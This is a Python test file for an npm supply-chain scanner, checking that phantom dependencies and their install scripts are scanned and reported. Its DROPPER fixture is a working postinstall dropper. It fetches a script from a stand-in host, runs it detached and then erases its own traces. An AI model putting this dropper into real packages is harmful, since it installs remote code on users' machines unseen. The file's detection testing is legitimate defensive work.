"""Phantom dependencies: a patch release adds a dependency it never imports, whose own install
script drops a payload and swaps its package.json back. The release is judged with that
dependency scanned too (depth 1, a bounded count), and the chain is reported."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest

from chainwatch.model import Level, Verdict
from chainwatch.output.jsonout import verdict_dict
from chainwatch.registry import RegistryClient
from chainwatch.registry.npmrc import NpmConfig
from chainwatch.scan import MAX_DEPENDENCY_SCANS, Scanner
from tests.helpers import BENIGN_INDEX, manifest
from tests.hostile.fake_registry import UPSTREAM, FakeRegistry

DROPPER = """const fs = require('fs'); const path = require('path'); const os = require('os');
const { spawn } = require('child_process'); const http = require('http');
const out = path.join(os.tmpdir(), 'ld.py');
http.get('http://192.0.2.77:8000/6202033', (r) => { r.pipe(fs.createWriteStream(out)).on('finish', () => {
  fs.chmodSync(out, 0o755);
  spawn('python3', [out], { detached: true, stdio: 'ignore' }).unref();
  fs.unlinkSync(__filename);
  fs.unlinkSync(path.join(__dirname, 'package.json'));
  fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
}); });
"""


def _publish_host(reg: FakeRegistry, deps_101: dict[str, str], index: str = BENIGN_INDEX) -> None:
    reg.publish("left-padder", "1.0.0", {"index.js": BENIGN_INDEX})
    reg.publish("left-padder", "1.0.1", {
        "package.json": manifest(version="1.0.1", dependencies=deps_101), "index.js": index},
        dependencies=deps_101, published=datetime.now(UTC).isoformat())


def _publish_dropper(reg: FakeRegistry, name: str = "crypto-padlib", extra_deps: dict[str, str]
                     | None = None) -> None:
    reg.publish(name, "4.2.0", {"index.js": "module.exports = {};\n"})
    reg.publish(name, "4.2.1", {
        "package.json": manifest(name, "4.2.1", scripts={"postinstall": "node setup.js"},
                                 dependencies=extra_deps or {}),
        "package.md": manifest(name, "4.2.0"), "setup.js": DROPPER,
        "index.js": "module.exports = {};\n"},
        scripts={"postinstall": "node setup.js"}, dependencies=extra_deps or {})


def _scan(reg: FakeRegistry, tmp_path: Path, spec: str = "left-padder@1.0.1") -> Verdict:
    client = RegistryClient(NpmConfig(registry=UPSTREAM), tmp_path,
                            transport=httpx.MockTransport(reg), backoff=0.0)
    with client, Scanner(client, workers=1) as scanner:
        return scanner.scan(spec)


def test_phantom_dependency_with_a_dropper_is_scanned_and_the_chain_reported(
        tmp_path: Path) -> None:
    reg = FakeRegistry()
    _publish_host(reg, {"crypto-padlib": "^4.2.1"})
    _publish_dropper(reg)
    verdict = _scan(reg, tmp_path)
    by_rule = {f.rule: f for f in verdict.findings}
    assert verdict.level is Level.MALICIOUS, verdict.explanation
    chain = by_rule["CW-DEP-CHAIN"]
    assert "left-padder@1.0.1 → crypto-padlib@4.2.1 → " in chain.message
    assert chain.technique == "phantom-dependency"
    phantom = by_rule["CW-DEP-PHANTOM"]
    assert "never imported" in phantom.message and "install script" in phantom.message


def test_an_imported_benign_dependency_is_neither_phantom_nor_a_chain(tmp_path: Path) -> None:
    reg = FakeRegistry()
    _publish_host(reg, {"tiny-helper": "^1.0.0"},
                  index=BENIGN_INDEX + "\nconst helper = require('tiny-helper');\n")
    reg.publish("tiny-helper", "1.0.0", {"index.js": "module.exports = (s) => s.trim();\n"})
    verdict = _scan(reg, tmp_path)
    rules = {f.rule for f in verdict.findings}
    assert not rules & {"CW-DEP-CHAIN", "CW-DEP-PHANTOM", "CW-DEP-UNSCANNED"}, rules
    assert verdict.level is Level.BENIGN, verdict.explanation


def test_the_dependency_s_own_new_dependencies_are_not_followed(tmp_path: Path) -> None:
    reg = FakeRegistry()
    _publish_host(reg, {"crypto-padlib": "^4.2.1"})
    _publish_dropper(reg, extra_deps={"deeper-dep": "^1.0.0"})
    reg.publish("deeper-dep", "1.0.0", {"index.js": "module.exports = 1;\n"})
    verdict = _scan(reg, tmp_path)
    assert any(f.rule == "CW-DEP-CHAIN" for f in verdict.findings)
    assert not any(seen.path.endswith("/deeper-dep") for seen in reg.log)


def test_at_most_a_bounded_number_of_added_dependencies_are_scanned(tmp_path: Path) -> None:
    reg = FakeRegistry()
    names = [f"dep-{i:02d}" for i in range(MAX_DEPENDENCY_SCANS + 4)]
    _publish_host(reg, {n: "^1.0.0" for n in names})
    for n in names:
        reg.publish(n, "1.0.0", {"index.js": "module.exports = 1;\n"})
    verdict = _scan(reg, tmp_path)
    tarballs = {s.path for s in reg.log if s.path.endswith(".tgz") and "/dep-" in s.path}
    assert len(tarballs) == MAX_DEPENDENCY_SCANS
    # none is imported: every one is reported as phantom, scanned or not
    assert sum(f.rule == "CW-DEP-PHANTOM" for f in verdict.findings) == len(names)


def test_a_dependency_that_cannot_be_fetched_is_said_so(tmp_path: Path) -> None:
    reg = FakeRegistry()
    _publish_host(reg, {"gone-dep": "^1.0.0"})
    verdict = _scan(reg, tmp_path)
    unscanned = [f for f in verdict.findings if f.rule == "CW-DEP-UNSCANNED"]
    assert unscanned and "gone-dep@^1.0.0" in unscanned[0].message


@pytest.mark.parametrize("spec", ["github:someone/thing", "https://example.invalid/x.tgz",
                                  "file:../x"])
def test_non_registry_specs_are_not_fetched(tmp_path: Path, spec: str) -> None:
    reg = FakeRegistry()
    _publish_host(reg, {"odd-dep": spec})
    verdict = _scan(reg, tmp_path)
    assert not any(s.host == "example.invalid" or ("odd-dep" in s.path and s.path.endswith(".tgz"))
                   for s in reg.log)
    assert not {f.rule for f in verdict.findings} & {"CW-DEP-CHAIN", "CW-DEP-UNSCANNED"}


def test_the_chain_is_in_the_json_document(tmp_path: Path) -> None:
    reg = FakeRegistry()
    _publish_host(reg, {"crypto-padlib": "^4.2.1"})
    _publish_dropper(reg)
    doc = json.loads(json.dumps(verdict_dict(_scan(reg, tmp_path))))
    assert any(f["rule"] == "CW-DEP-CHAIN" and "crypto-padlib@4.2.1" in f["message"]
               for f in doc["findings"])


# node-fetch 2 → 3 (h/top1000): the major release imports a FormData polyfill that wraps
# XMLHttpRequest.prototype.send, suspicious on its own; the release pair was flagged for it
XHR_WRAPPING_POLYFILL = """const _send = global.XMLHttpRequest && global.XMLHttpRequest.prototype.send;
class FormDataPolyfill { _blob() { return new Blob([]); } }
if (_send) {
  global.XMLHttpRequest.prototype.send = function (data) {
    _send.call(this, data instanceof FormDataPolyfill ? data._blob() : data);
  };
}
module.exports = FormDataPolyfill;
"""


def _publish_polyfill_release(reg: FakeRegistry, version: str, imported: bool) -> None:
    deps = {"form-shim": "^4.0.0"}
    reg.publish("left-padder", "1.0.0", {"index.js": BENIGN_INDEX})
    index = BENIGN_INDEX + ("\nconst FormData = require('form-shim');\n" if imported else "")
    reg.publish("left-padder", version, {
        "package.json": manifest(version=version, dependencies=deps), "index.js": index},
        dependencies=deps, published=datetime.now(UTC).isoformat())
    reg.publish("form-shim", "4.0.0", {"index.js": XHR_WRAPPING_POLYFILL})


def test_a_major_release_importing_a_suspicious_dependency_is_not_flagged_for_it(
        tmp_path: Path) -> None:
    reg = FakeRegistry()
    _publish_polyfill_release(reg, "2.0.0", imported=True)
    verdict = _scan(reg, tmp_path, "left-padder@2.0.0")
    chain = [f for f in verdict.findings if f.rule == "CW-DEP-CHAIN"]
    assert chain and chain[0].severity.value == "low", chain  # still reported, weighed low
    assert verdict.level is Level.BENIGN, verdict.explanation


@pytest.mark.parametrize(("version", "imported"), [("1.0.1", True), ("2.0.0", False)])
def test_a_suspicious_dependency_in_a_patch_or_never_imported_still_flags(
        tmp_path: Path, version: str, imported: bool) -> None:
    reg = FakeRegistry()
    _publish_polyfill_release(reg, version, imported)
    verdict = _scan(reg, tmp_path, f"left-padder@{version}")
    chain = [f for f in verdict.findings if f.rule == "CW-DEP-CHAIN"]
    assert chain and chain[0].severity.value == "medium", chain
    assert verdict.level is not Level.BENIGN, verdict.explanation


def test_a_malicious_dependency_of_a_major_release_is_still_malicious(tmp_path: Path) -> None:
    reg = FakeRegistry()
    reg.publish("left-padder", "1.0.0", {"index.js": BENIGN_INDEX})
    deps = {"crypto-padlib": "^4.2.1"}
    reg.publish("left-padder", "2.0.0", {
        "package.json": manifest(version="2.0.0", dependencies=deps),
        "index.js": BENIGN_INDEX + "\nrequire('crypto-padlib');\n"},
        dependencies=deps, published=datetime.now(UTC).isoformat())
    _publish_dropper(reg)
    verdict = _scan(reg, tmp_path, "left-padder@2.0.0")
    assert verdict.level is Level.MALICIOUS, verdict.explanation
